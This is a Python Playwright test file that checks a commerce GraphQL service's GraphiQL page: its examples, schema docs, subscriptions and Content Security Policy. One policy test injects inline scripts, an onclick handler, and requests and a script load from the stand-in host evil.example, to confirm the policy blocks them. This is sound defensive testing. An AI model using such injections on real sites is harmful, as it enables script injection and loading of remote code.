"""GraphiQL in a real browser: examples run as they stand, and a subscription hears what a mutation does."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import replace

import httpx
import pytest
from playwright.async_api import Browser, Page, expect

from commerce_graph.callers import ADMIN_HEADER, STOREFRONT_HEADERS
from commerce_graph.kernel.graphiql import Example
from tests.browser.conftest import Demo

TIMEOUT_MS = 30_000
VIOLATIONS = """document.addEventListener('securitypolicyviolation',
  (event) => window.violated(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))"""
"""Tells the test what the page's policy has forbidden."""


@pytest.fixture
async def page(browser: Browser, demo: Demo) -> AsyncIterator[Page]:
    """Open GraphiQL in a fresh profile. Whatever the browser complains about fails the test."""
    context = await browser.new_context(viewport={"width": 1440, "height": 860})
    opened = await context.new_page()
    opened.set_default_timeout(TIMEOUT_MS)
    complaints: list[str] = []
    opened.on("console", lambda said: complaints.append(said.text) if said.type in ("error", "warning") else None)
    opened.on("pageerror", lambda fault: complaints.append(str(fault)))
    opened.on("requestfailed", lambda request: complaints.append(request.url))
    opened.on("request", lambda request: complaints.append(request.url) if foreign(request.url, demo) else None)
    await opened.expose_function("violated", lambda told: complaints.append(told))
    await opened.add_init_script(VIOLATIONS)
    await opened.goto(demo.address)
    await opened.wait_for_selector(".graphiql-execute-button")
    yield opened
    await context.close()
    assert complaints == []


def foreign(url: str, demo: Demo) -> bool:
    return not url.startswith((demo.address.removesuffix("/graphql"), "data:"))


async def choose(page: Page, tab: str) -> None:
    """Show a tab, and wait until GraphiQL has read its operation: the button's menu would else run another."""
    await page.locator(".graphiql-tabs").get_by_role("button", name=tab, exact=True).click()
    await page.wait_for_function(
        """name => JSON.parse(Object.entries(localStorage).find(([key]) => key.endsWith('tabState'))?.[1] ?? 'null')
           ?.tabs.some((tab, at, all) => tab.operationName === name)""",
        arg=tab,
    )


async def run(page: Page, tab: str, expected: str) -> None:
    """Run the operation of a tab, and wait until the answer holds a text."""
    await choose(page, tab)
    await page.locator(".graphiql-execute-button").click()
    await expect(page.locator(".result-window")).to_contain_text(expected, timeout=TIMEOUT_MS)


async def call(demo: Demo, example: Example) -> None:
    name = STOREFRONT_HEADERS[0] if example.caller == "shopper" else ADMIN_HEADER
    body = {"query": example.query, "variables": json.loads(example.variables or "{}")}
    async with httpx.AsyncClient(timeout=30) as client:
        answer = (await client.post(demo.address, json=body, headers={name: demo.tokens[example.caller]})).json()
    assert "errors" not in answer, answer
    for payload in answer["data"].values():
        assert not payload.get("userErrors"), payload


async def test_first_example_shows_products(page: Page) -> None:
    await run(page, "Products", '"minVariantPrice"')


async def test_mutation_of_an_example_makes_a_cart(page: Page) -> None:
    await run(page, "CreateCart", '"totalQuantity": 2')


async def test_merchants_tab_has_the_merchants_key(page: Page) -> None:
    await run(page, "Orders", '"displayFinancialStatus"')


async def test_docs_show_the_schema(page: Page) -> None:
    await page.get_by_role("button", name="Show Documentation Explorer").click()
    await page.locator(".graphiql-doc-explorer").get_by_text("Subscription", exact=True).click()
    await expect(page.locator(".graphiql-doc-explorer")).to_contain_text("orderUpdated")


async def test_dialog_is_styled_under_the_policy(page: Page) -> None:
    await page.get_by_role("button", name="Open settings dialog").click()
    await expect(page.get_by_role("dialog")).to_be_visible()


async def test_policy_forbids_what_is_not_ours(browser: Browser, demo: Demo) -> None:
    context = await browser.new_context()
    opened = await context.new_page()
    forbidden: asyncio.Queue[str] = asyncio.Queue()
    await opened.expose_function("violated", lambda told: forbidden.put_nowait(told))
    await opened.add_init_script(VIOLATIONS)
    await opened.goto(demo.address)
    for script, directive in (
        ("document.head.append(Object.assign(document.createElement('script'), { text: 'window.stolen = 1' }))",
         "script-src-elem inline"),
        ("document.body.setAttribute('onclick', 'window.stolen = 1'); document.body.click()", "script-src-attr inline"),
        ("document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))",
         "script-src-elem https://evil.example/a.js"),
        ("fetch('https://evil.example/').catch(() => 0)", "connect-src https://evil.example/"),
        ("document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/' }))",
         "img-src https://evil.example/"),
        ("document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
         "frame-src https://evil.example"),
    ):  # fmt: skip
        await opened.evaluate(script)
        async with asyncio.timeout(TIMEOUT_MS / 1_000):
            while not (await forbidden.get()).startswith(directive):
                pass
    assert await opened.evaluate("window.stolen") is None
    await context.close()


async def test_subscription_hears_of_a_change_at_once(page: Page, demo: Demo) -> None:
    await choose(page, "WatchOrders")
    async with page.expect_websocket():
        await page.locator(".graphiql-execute-button").click()
    close = demo.example("order-close")
    reopen = replace(close, query=close.query.replace("orderClose(", "orderOpen(").replace("OrderClose", "OrderOpen"))
    heard = expect(page.locator(".result-window"))
    for _ in range(10):  # the socket is there, and the subscription on it a moment later
        await call(demo, reopen)
        await call(demo, close)
        with suppress(AssertionError):
            return await heard.to_contain_text('"closed": true', timeout=TIMEOUT_MS / 10)
    pytest.fail("the browser was told of no change")


async def test_every_example_but_the_subscription_runs_as_it_stands(demo: Demo) -> None:
    examples = [example for example in demo.examples if "subscription" not in example.query]
    assert len(examples) == 9
    for example in examples:
        await call(demo, example)
